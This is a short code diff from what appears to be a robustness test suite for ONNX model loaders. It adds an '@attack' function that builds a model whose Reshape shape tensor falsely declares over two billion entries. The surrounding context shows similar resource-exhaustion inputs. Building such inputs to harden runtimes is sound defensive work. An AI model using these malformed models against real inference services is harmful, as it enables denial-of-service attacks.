@@ -40,6 +40,16 @@ def huge_range() -> onnx.ModelProto:
 
 
 @attack
+def vector_of_sizes_without_end() -> onnx.ModelProto:
+    """A Reshape to two thousand million dimensions, of which there are four."""
+    sizes = numpy_helper.from_array(np.array([1, 3, 6, 5], np.int64), "sizes")
+    model = between(helper.make_node("Reshape", ["image", "sizes"], ["new"]), constants={})
+    sizes.dims[:] = [(1 << 31) - 1]
+    model.graph.initializer.append(sizes)
+    return model
+
+
+@attack
 def slow_constant_convolution() -> onnx.ModelProto:
     """A few kilobytes that a reference implementation multiplies for hours."""
     values = {"x": np.ones((1, 1, 300, 300), np.float32), "w": np.ones((64, 1, 3, 3), np.float32)}
